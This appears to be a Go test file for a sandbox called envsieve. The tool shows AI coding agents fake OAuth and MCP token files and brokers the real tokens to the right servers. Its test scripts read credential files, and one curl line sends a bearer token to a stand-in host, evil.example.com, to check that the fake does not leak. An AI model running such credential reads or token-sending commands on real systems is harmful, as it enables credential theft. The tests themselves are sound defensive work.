//go:build linux

package main

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/envsieve/envsieve/internal/shimtest"
)

// runAgentTree runs script in a sealed `envsieve run --profile profile`
// as an unprivileged user, by the seal mechanism mech, with the extra
// environment env, and returns its output (it must end in "ran").
func runAgentTree(t *testing.T, exe, home, profile, mech, script string, env ...string) string {
	t.Helper()
	argv := []string{exe, "run", "--profile", profile, "--", "/bin/sh", "-c", script + "; echo ran"}
	if mech == "landlock" {
		noNS := filepath.Join(filepath.Dir(exe), "nouserns")
		copyFile(t, shimtest.Program(t, "nouserns", shimtest.NoUserNS), noNS)
		argv = append([]string{noNS}, argv...)
	}
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Env = append([]string{"PATH=/usr/bin:/bin", "HOME=" + home}, env...)
	cmd.Dir = home
	cmd.SysProcAttr = asUnprivileged()
	out, err := cmd.CombinedOutput()
	if err != nil || !strings.HasSuffix(string(out), "ran\n") {
		t.Fatalf("the tree did not run: %v\n%s", err, out)
	}
	return string(out)
}

// mcpStore is one agent's MCP OAuth token file as its CLI writes it,
// holding the server's tokens acc and ref, and where the agent in the
// tree reads it.
type mcpStore struct {
	profile, dir, file, agentPath string
	json                          func(acc, ref string) string
	// tokens returns the access and refresh tokens of the file's JSON.
	tokens func(b []byte) (string, string)
}

var mcpStores = []mcpStore{
	{profile: "codex", dir: ".codex", file: ".credentials.json", agentPath: `"$CODEX_HOME/.credentials.json"`,
		json: func(acc, ref string) string {
			return `{"linear|0123456789abcdef":{"server_name":"linear","server_url":"https://mcp.linear.app/mcp","client_id":"c1","access_token":"` + acc +
				`","expires_at":1000,"refresh_token":"` + ref + `","scopes":["read"]}}`
		},
		tokens: func(b []byte) (string, string) {
			var f map[string]struct {
				AccessToken  string `json:"access_token"`
				RefreshToken string `json:"refresh_token"`
			}
			json.Unmarshal(b, &f)
			e := f["linear|0123456789abcdef"]
			return e.AccessToken, e.RefreshToken
		}},
	{profile: "gemini", dir: ".gemini", file: "mcp-oauth-tokens.json", agentPath: `"$GEMINI_CLI_HOME/.gemini/mcp-oauth-tokens.json"`,
		json: func(acc, ref string) string {
			return "[\n  {\n    \"serverName\": \"linear\",\n    \"token\": {\n      \"accessToken\": \"" + acc + "\",\n      \"refreshToken\": \"" + ref +
				"\",\n      \"expiresAt\": 1000,\n      \"tokenType\": \"Bearer\"\n    },\n    \"clientId\": \"c1\",\n    \"tokenUrl\": \"https://linear.app/oauth/token\",\n" +
				"    \"mcpServerUrl\": \"https://mcp.linear.app/mcp\",\n    \"updatedAt\": 1\n  }\n]"
		},
		tokens: func(b []byte) (string, string) {
			var f []struct {
				Token struct{ AccessToken, RefreshToken string }
			}
			if json.Unmarshal(b, &f) != nil || len(f) == 0 {
				return "", ""
			}
			return f[0].Token.AccessToken, f[0].Token.RefreshToken
		}},
}

// TestAgentMCPTokensFaked: Codex's and Gemini CLI's MCP OAuth token files
// are shown to the agent in the tree as fakes, in the view its variable
// names, so an MCP server it logged in to keeps working there (the
// broker swaps the access token on the way to the server): with and
// without the agent's own login beside them, by both seal mechanisms. The
// tree reads no real token anywhere, and the user's file is untouched.
func TestAgentMCPTokensFaked(t *testing.T) {
	t.Parallel()
	for _, st := range mcpStores {
		for _, mech := range []string{"namespaces", "landlock"} {
			for _, withLogin := range []bool{true, false} {
				name := st.profile + "/" + mech + "/nologin"
				if withLogin {
					name = st.profile + "/" + mech + "/login"
				}
				t.Run(name, func(t *testing.T) {
					exe, home := unprivilegedInstall(t)
					tag := strings.ToUpper(st.profile[:2])
					acc, ref := "mcpa"+strings.Repeat(tag+"a2", 20), "mcpr"+strings.Repeat(tag+"r2", 20)
					reals := []string{acc, ref}
					if withLogin {
						for _, ag := range agentLogins {
							if ag.profile == st.profile {
								r := []string{"acc2" + strings.Repeat(tag+"a1", 20), "ref2" + strings.Repeat(tag+"r1", 20), "sig2" + strings.Repeat(tag+"s1", 20)}
								writeOwned(t, filepath.Join(home, ag.rel), ag.file(r))
								reals = append(reals, r...)
							}
						}
					}
					real := st.json(acc, ref)
					writeOwned(t, filepath.Join(home, st.dir, st.file), real)
					out := runAgentTree(t, exe, home, st.profile, mech,
						`echo "view: `+st.agentPath+`"; echo "<<"; cat `+st.agentPath+`; echo ">>"; cat "$HOME/`+st.dir+`/`+st.file+`" 2>&1; cat "$HOME/`+st.dir+`"/* 2>&1`)
					for _, r := range reals {
						if strings.Contains(out, r) {
							t.Fatalf("the tree read a real token:\n%s", out)
						}
					}
					if !strings.Contains(out, "view: "+filepath.Join(home, st.dir, ".envsieve-view-")) {
						t.Errorf("the agent's variable names no view:\n%s", out)
					}
					_, rest, _ := strings.Cut(out, "<<\n")
					seen, _, _ := strings.Cut(rest, ">>")
					a, r := st.tokens([]byte(seen))
					if len(a) != len(acc) || len(r) != len(ref) {
						t.Errorf("the agent reads no fake MCP tokens where it reads them:\n%s", out)
					}
					if b, err := os.ReadFile(filepath.Join(home, st.dir, st.file)); err != nil || string(b) != real {
						t.Errorf("the user's file changed: %v", err)
					}
				})
			}
		}
	}
}

// TestAgentLoginOwnDirFaked: a user who set CLAUDE_CONFIG_DIR, CODEX_HOME
// or GEMINI_CLI_HOME to their own directory keeps the agent's login
// there; the agent in the sealed tree is logged in by a fake of it, in a
// view of that directory its variable names (not the default's), by both
// seal mechanisms: it reads no real token, a new entry it makes in its
// state dir is there after the launch, and the user's file is untouched.
func TestAgentLoginOwnDirFaked(t *testing.T) {
	t.Parallel()
	for _, ag := range agentLogins {
		if ag.name != "" {
			continue
		}
		env := map[string]string{"claude": "CLAUDE_CONFIG_DIR", "codex": "CODEX_HOME", "gemini": "GEMINI_CLI_HOME"}[ag.profile]
		for _, mech := range []string{"namespaces", "landlock"} {
			t.Run(ag.profile+"/"+mech, func(t *testing.T) {
				exe, home := unprivilegedInstall(t)
				tag := strings.ToUpper(ag.profile[:2])
				reals := []string{"acc3" + strings.Repeat(tag+"a3", 20), "ref3" + strings.Repeat(tag+"r3", 20), "sig3" + strings.Repeat(tag+"s3", 20)}
				own := filepath.Join(home, "agentdirs", ag.profile)
				rel := strings.TrimPrefix(ag.rel, ".claude/")
				rel = strings.TrimPrefix(rel, ".codex/")
				if ag.profile == "gemini" {
					rel = ag.rel // GEMINI_CLI_HOME names the home of .gemini
				}
				real := ag.file(reals)
				writeOwned(t, filepath.Join(own, rel), real)
				for d := filepath.Join(own, rel); d != home; d = filepath.Dir(d) {
					if err := os.Chown(d, 65534, 65534); err != nil {
						t.Fatal(err)
					}
				}
				state := filepath.Dir(filepath.Join(own, rel))
				out := runAgentTree(t, exe, home, ag.profile, mech,
					`echo "var: $`+env+`"; echo "<<"; cat `+ag.agentPath+`; echo ">>"; cat "`+filepath.Join(own, rel)+`" 2>&1; cat "`+state+`"/* 2>&1; `+
						`echo new > "$(dirname `+ag.agentPath+`)/new-entry"`, env+"="+own)
				for _, r := range reals {
					if strings.Contains(out, r) {
						t.Fatalf("the tree read a real token:\n%s", out)
					}
				}
				if !strings.Contains(out, "var: "+filepath.Join(state, ".envsieve-view-")) {
					t.Errorf("%s names no view of the user's own state dir:\n%s", env, out)
				}
				_, rest, _ := strings.Cut(out, "<<\n")
				seen, _, _ := strings.Cut(rest, ">>")
				if tok := ag.token([]byte(seen)); len(tok) != len(reals[0]) {
					t.Errorf("the agent reads no fake login where it reads it:\n%s", out)
				}
				if b, err := os.ReadFile(filepath.Join(own, rel)); err != nil || string(b) != real {
					t.Errorf("the user's file changed: %v", err)
				}
				if b, err := os.ReadFile(filepath.Join(state, "new-entry")); err != nil || string(b) != "new\n" {
					t.Errorf("the tree's new entry did not reach the user's state dir: %v", err)
				}
				if m, _ := filepath.Glob(filepath.Join(state, ".envsieve-view-*")); len(m) > 0 {
					t.Errorf("the view stayed: %v", m)
				}
			})
		}
	}
}

// TestAgentMCPRequestBrokered: an MCP server logged in to by Gemini CLI
// (its mcp-oauth-tokens.json) works from the sealed tree over HTTPS
// through the broker: a stand-in MCP server on loopback TLS answers an
// initialize only with the real bearer token, and a client in the tree
// (curl, as an unprivileged user) sends the fake from the tree's file.
// Then the client refreshes at the file's token endpoint with the fake
// refresh token (the stand-in gets the real one), gets a new fake, and
// the MCP server gets the new real token with it; the user's file holds
// the new real tokens afterwards. The fake sent to another host stays a
// fake there.
func TestAgentMCPRequestBrokered(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("curl"); err != nil {
		t.Fatal("curl is needed (make deps)")
	}
	oldA, newA := "mcp-at-"+strings.Repeat("Ma1x", 12), "mcp-at-"+strings.Repeat("Mn2x", 12)
	oldR, newR := "mcp-rt-"+strings.Repeat("Mr3x", 12), "mcp-rt-"+strings.Repeat("Ms4x", 12)
	reals := []string{oldA, newA, oldR, newR}
	mask := func(s string) string {
		for _, r := range reals {
			s = strings.ReplaceAll(s, r, "<REAL>")
		}
		return s
	}
	var mu sync.Mutex
	var seen []string // host, path and what came, never a value
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		switch {
		case r.Host == "auth.example.com" && r.URL.Path == "/oauth/token":
			r.ParseForm()
			rt := r.PostForm.Get("refresh_token")
			seen = append(seen, "token "+map[bool]string{true: "real", false: "other"}[rt == oldR])
			if rt != oldR {
				http.Error(w, `{"error":"invalid_grant"}`, http.StatusBadRequest)
				return
			}
			w.Header().Set("Content-Type", "application/json")
			io.WriteString(w, `{"access_token":"`+newA+`","refresh_token":"`+newR+`","expires_in":3600,"token_type":"Bearer"}`)
		case r.Host == "mcp.example.com" && r.URL.Path == "/mcp":
			auth := r.Header.Get("Authorization")
			what := map[string]string{"Bearer " + oldA: "old", "Bearer " + newA: "new"}[auth]
			seen = append(seen, "mcp "+what)
			if what == "" {
				w.Header().Set("WWW-Authenticate", `Bearer resource_metadata="https://mcp.example.com/.well-known/oauth-protected-resource"`)
				http.Error(w, "unauthorized", http.StatusUnauthorized)
				return
			}
			w.Header().Set("Content-Type", "application/json")
			io.WriteString(w, `{"jsonrpc":"2.0","id":1,"result":{"protocolVersion":"2025-06-18","capabilities":{},"serverInfo":{"name":"stand-in","version":"1"}}}`)
		default:
			auth := r.Header.Get("Authorization")
			real := false
			for _, v := range reals {
				real = real || strings.Contains(auth, v)
			}
			seen = append(seen, "other "+map[bool]string{true: "real", false: "fake"}[real])
			http.Error(w, "no", http.StatusForbidden)
		}
	}))
	cert, caPEM := hostCert(t, "mcp.example.com", "auth.example.com", "evil.example.com")
	srv.TLS = &tls.Config{Certificates: []tls.Certificate{cert}}
	srv.StartTLS()
	t.Cleanup(srv.Close)
	upstream := connectProxy(t, srv)

	exe, home := unprivilegedInstall(t)
	realFile := filepath.Join(home, ".gemini", "mcp-oauth-tokens.json")
	writeOwned(t, realFile, "[\n  {\n    \"serverName\": \"standin\",\n    \"token\": {\n      \"accessToken\": \""+oldA+"\",\n      \"refreshToken\": \""+oldR+
		"\",\n      \"expiresAt\": 1000,\n      \"tokenType\": \"Bearer\"\n    },\n    \"clientId\": \"c1\",\n    \"tokenUrl\": \"https://auth.example.com/oauth/token\",\n"+
		"    \"mcpServerUrl\": \"https://mcp.example.com/mcp\",\n    \"updatedAt\": 1\n  }\n]")
	writeOwned(t, filepath.Join(home, "standin-ca.pem"), string(caPEM))
	policy := filepath.Join(home, "policy.yaml")
	writeOwned(t, policy, "version: 1\nbroker:\n  upstream_ca: ["+filepath.Join(home, "standin-ca.pem")+"]\n")
	work := filepath.Join(home, "work")
	writeOwned(t, filepath.Join(work, "README"), "work\n")
	script := `f="$GEMINI_CLI_HOME/.gemini/mcp-oauth-tokens.json"
a=$(sed -n 's/.*"accessToken": "\([^"]*\)".*/\1/p' "$f"); r=$(sed -n 's/.*"refreshToken": "\([^"]*\)".*/\1/p' "$f")
init='{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}'
mcp() { curl -s -o /dev/null -w '%{http_code}' -X POST -H "Authorization: Bearer $1" -H 'Content-Type: application/json' -H 'Accept: application/json, text/event-stream' -d "$init" https://mcp.example.com/mcp; }
echo "first: $(mcp "$a")"
echo "evil: $(curl -s -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $a" https://evil.example.com/)"
resp=$(curl -s -d "grant_type=refresh_token&refresh_token=$r&client_id=c1" https://auth.example.com/oauth/token)
echo "refresh: $resp"
na=$(echo "$resp" | sed -n 's/.*"access_token":"\([^"]*\)".*/\1/p')
echo "second: $(mcp "$na")"
echo "tree file: $(cat "$f")"
`
	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, exe, "run", "--profile", "gemini", "--policy", policy, "--", "/bin/sh", "-c", script)
	cmd.WaitDelay = 5 * time.Second
	cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + home, "XDG_RUNTIME_DIR=" + home, "HTTPS_PROXY=" + upstream}
	cmd.Dir = work
	cmd.SysProcAttr = asUnprivileged()
	out, err := cmd.CombinedOutput()
	got := string(out)
	if err != nil {
		t.Fatalf("envsieve run: %v\n%s", err, mask(got))
	}
	if mask(got) != got {
		t.Fatalf("the tree read a real token:\n%s", mask(got))
	}
	for _, want := range []string{"first: 200", "second: 200"} {
		if !strings.Contains(got, want) {
			t.Errorf("no %q:\n%s", want, got)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	var flow []string
	for _, s := range seen {
		if s == "other real" {
			t.Errorf("another host got a real token")
		} else if s != "other fake" { // the broker refuses it, or passes the fake
			flow = append(flow, s)
		}
	}
	if s := strings.Join(flow, ", "); s != "mcp old, token real, mcp new" {
		t.Errorf("the stand-ins got: %s\n%s", s, got)
	}
	if strings.Contains(got, "evil: 200") {
		t.Errorf("the fake reached another host")
	}
	b, _ := os.ReadFile(realFile)
	if !strings.Contains(string(b), newA) || !strings.Contains(string(b), newR) {
		t.Errorf("the user's real file does not hold the new real tokens: %s", mask(string(b)))
	}
}

// TestCodexMCPListSealed: the real Codex reads its MCP token store's fake
// as it reads the real one: `codex mcp list` in a sealed `envsieve run
// --profile codex`, run as an unprivileged user by both seal mechanisms,
// shows the OAuth-logged-in server as such ("OAuth", where a store it
// cannot read shows "Unknown"), and the tree holds no real token.
func TestCodexMCPListSealed(t *testing.T) {
	t.Parallel()
	codex := agentCLI(t, "@openai/codex-linux-x64/vendor/x86_64-unknown-linux-musl/bin/codex")
	acc, ref := "mcpa"+strings.Repeat("Cx5a", 12), "mcpr"+strings.Repeat("Cx6r", 12)
	for _, mech := range []string{"namespaces", "landlock"} {
		t.Run(mech, func(t *testing.T) {
			exe, home := unprivilegedInstall(t)
			writeOwned(t, filepath.Join(home, ".codex", "config.toml"),
				"mcp_oauth_credentials_store = \"file\"\n[mcp_servers.linear]\nurl = \"https://mcp.linear.app/mcp\"\n")
			writeOwned(t, filepath.Join(home, ".codex", ".credentials.json"),
				`{"linear|0123456789abcdef":{"server_name":"linear","server_url":"https://mcp.linear.app/mcp","client_id":"c1","access_token":"`+acc+
					`","expires_at":99999999999999,"refresh_token":"`+ref+`","scopes":["read"]}}`)
			work := filepath.Join(home, "work")
			writeOwned(t, filepath.Join(work, "README"), "work\n")
			if err := os.Chown(work, 65534, 65534); err != nil {
				t.Fatal(err)
			}
			out := runAgentTree(t, exe, home, "codex", mech, `cd `+work+`; timeout 30 `+codex+` mcp list 2>&1 | grep linear; cat "$CODEX_HOME/.credentials.json"`)
			if strings.Contains(out, acc) || strings.Contains(out, ref) {
				t.Fatalf("the tree read a real token:\n%s", out)
			}
			if !strings.Contains(out, "enabled  OAuth") {
				t.Errorf("Codex does not see the server's OAuth login:\n%s", out)
			}
		})
	}
}

// TestExplainAgentOwnDir: explain lists an agent's login in the state
// dir the user's own variable names (a fake, with its hosts), the MCP
// token stores (fakes bound to their servers' hosts), and the default
// login the agent then does not read as masked.
func TestExplainAgentOwnDir(t *testing.T) {
	exe, home := unprivilegedInstall(t)
	reals := []string{"acc4" + strings.Repeat("Xo4", 10), "ref4" + strings.Repeat("Xq4", 10), "sig4" + strings.Repeat("Xp4", 10)}
	own := filepath.Join(home, "agentdirs", "claude")
	writeOwned(t, filepath.Join(own, ".credentials.json"), agentLogins[0].file(reals))
	for _, d := range []string{filepath.Dir(own), own} {
		if err := os.Chown(d, 65534, 65534); err != nil {
			t.Fatal(err)
		}
	}
	writeOwned(t, filepath.Join(home, ".claude", ".credentials.json"), agentLogins[0].file(reals))
	for _, st := range mcpStores {
		writeOwned(t, filepath.Join(home, st.dir, st.file), st.json(reals[0], reals[1]))
	}
	explain := func(env []string, args ...string) string {
		cmd := exec.Command(exe, append(append([]string{"explain"}, args...), "--", "true")...)
		cmd.Env = append([]string{"PATH=/usr/bin:/bin", "HOME=" + home}, env...)
		cmd.Dir = home
		cmd.SysProcAttr = asUnprivileged()
		out, err := cmd.CombinedOutput()
		for _, r := range reals {
			if strings.Contains(string(out), r) {
				t.Fatalf("explain printed a real value")
			}
		}
		if err != nil {
			t.Fatalf("explain %v: %v\n%s", args, err, out)
		}
		return string(out)
	}
	line := func(out, path string) string {
		for _, l := range strings.Split(out, "\n") {
			if strings.HasPrefix(l, "login:   "+path+" ") {
				return l
			}
		}
		return ""
	}
	got := explain([]string{"CLAUDE_CONFIG_DIR=" + own}, "--profile", "claude")
	if l := line(got, filepath.Join(own, ".credentials.json")); !strings.Contains(l, " fake") || !strings.Contains(l, "api.anthropic.com") {
		t.Errorf("the login in the user's own CLAUDE_CONFIG_DIR: %q\n%s", l, got)
	}
	if l := line(got, filepath.Join(home, ".claude/.credentials.json")); !strings.Contains(l, " masked") {
		t.Errorf("the default login: %q\n%s", l, got)
	}
	for _, st := range mcpStores {
		got := explain(nil, "--profile", st.profile)
		if l := line(got, filepath.Join(home, st.dir, st.file)); !strings.Contains(l, " fake") || !strings.Contains(l, "mcp.linear.app") {
			t.Errorf("explain --profile %s: %s: %q\n%s", st.profile, st.file, l, got)
		}
	}
}
